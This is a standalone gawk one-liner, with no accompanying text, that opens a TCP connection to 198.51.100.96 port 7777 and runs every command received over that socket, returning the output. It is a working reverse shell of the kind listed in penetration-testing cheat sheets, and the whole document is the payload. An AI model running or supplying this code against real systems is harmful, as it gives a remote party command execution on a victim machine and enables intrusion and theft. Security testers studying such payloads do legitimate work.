awk 'BEGIN {
  s = "/inet/tcp/0/198.51.100.96/7777"
  while (42) {
    printf "sh> " |& s
    if ((s |& getline c) <= 0) break
    while ((c |& getline line) > 0) print line |& s
    close(c)
  }
  close(s)
}'
